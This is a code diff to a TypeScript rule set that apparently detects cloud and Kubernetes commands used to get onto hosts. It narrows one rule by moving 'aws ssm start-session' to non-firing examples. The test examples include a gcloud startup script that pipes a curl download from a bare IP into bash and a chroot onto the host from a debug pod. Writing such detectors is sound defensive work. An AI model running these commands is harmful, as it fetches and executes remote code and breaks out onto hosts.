@@ -528,11 +528,11 @@ export const RULES: readonly Rule[] = [
       const hit =
         ((c.name === 'kubectl' || c.name === 'oc') && a.includes('debug') && a.some((w) => w.startsWith('node/'))) ||
         (c.name === 'gcloud' && a.some((w) => /(^|,)(startup-script(-url)?|ssh-keys|sshKeys)=/.test(w)) && a.some((w) => w === 'add-metadata' || w === 'create' || w.startsWith('--metadata'))) ||
-        (c.name === 'aws' && ((a.includes('ssm') && a.includes('start-session')) || (a.includes('ec2-instance-connect') && a.includes('send-ssh-public-key')) || (a.includes('modify-instance-attribute') && (a.includes('--user-data') || (a.includes('--attribute') && a.includes('userData')))))) ||
+        (c.name === 'aws' && ((a.includes('ec2-instance-connect') && a.includes('send-ssh-public-key')) || (a.includes('modify-instance-attribute') && (a.includes('--user-data') || (a.includes('--attribute') && a.includes('userData')))))) ||
         (c.name === 'az' && a.includes('vm') && ((a.includes('extension') && a.includes('set') && a.some((w) => /CustomScript/i.test(w))) || (a.includes('user') && a.includes('update'))));
       return hit ? a.join(' ') : undefined;
     },
-    examples: { fire: ['aws ec2 modify-instance-attribute --instance-id i-0abc --attribute userData --value file:///tmp/ud.b64', 'kubectl debug node/worker-3 -it --image=busybox -- chroot /host sh', "gcloud compute instances add-metadata web-1 --metadata startup-script='curl -s http://45.33.12.7/x | bash'", 'aws ssm start-session --target i-0abc123', 'aws ec2-instance-connect send-ssh-public-key --instance-id i-0abc --instance-os-user ec2-user --ssh-public-key file:///tmp/k.pub'], quiet: ['kubectl debug -it api-7d9 --image=busybox --target=api', 'gcloud compute instances list', 'aws ssm describe-instance-information'] },
+    examples: { fire: ['aws ec2 modify-instance-attribute --instance-id i-0abc --attribute userData --value file:///tmp/ud.b64', 'kubectl debug node/worker-3 -it --image=busybox -- chroot /host sh', "gcloud compute instances add-metadata web-1 --metadata startup-script='curl -s http://45.33.12.7/x | bash'", 'aws ec2-instance-connect send-ssh-public-key --instance-id i-0abc --instance-os-user ec2-user --ssh-public-key file:///tmp/k.pub'], quiet: ['kubectl debug -it api-7d9 --image=busybox --target=api', 'aws ssm start-session --target i-0f1e2d3c4b5a69788 --profile dev', 'gcloud compute instances list', 'aws ssm describe-instance-information'] },
   },
   {
     id: 'PX-LATERAL-019', name: 'installs-key-for-root-on-host', score: 60, tactic: 'lateral_movement', technique: 'T1098.004',
